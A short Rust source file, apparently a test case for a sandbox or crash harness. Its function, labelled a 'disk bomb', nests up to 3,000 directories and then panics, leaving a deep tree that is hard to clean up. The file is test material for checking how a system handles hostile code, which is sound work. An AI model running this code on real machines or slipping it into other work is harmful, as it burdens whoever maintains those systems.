//! attack on thread: leaves folders in folders, 3,000 deep, for whoever has to clear up. It counts as a disk bomb; nothing is left.
//! inspected: failed crash
//! says: disk

use std::env;
use std::fs;

pub fn attack() {
    for _ in 0..3_000 {
        if fs::create_dir("d").and_then(|()| env::set_current_dir("d")).is_err() {
            break;
        }
    }
    panic!("deep enough");
}
